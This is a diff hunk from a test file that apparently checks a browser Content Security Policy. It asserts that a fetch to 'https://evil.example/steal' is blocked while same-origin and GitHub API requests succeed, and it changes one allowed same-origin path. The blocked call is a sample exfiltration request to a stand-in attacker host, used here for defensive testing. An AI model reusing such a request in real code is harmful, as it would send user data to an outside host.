@@ -66,7 +66,7 @@ def test_connection_to_another_host_is_blocked(page):
     blocked = violation(page, "fetch('https://evil.example/steal').catch(() => {})")
     assert blocked == ["connect-src", "https://evil.example/steal", "enforce"]
     assert page.evaluate("fetch('https://api.github.com/users/octocat').then(answer => answer.status)") == 200
-    assert page.evaluate("fetch('/style.css').then(answer => answer.status)") == 200
+    assert page.evaluate("fetch('/').then(answer => answer.status)") == 200
     assert reached == ["https://api.github.com/users/octocat"]
 
 
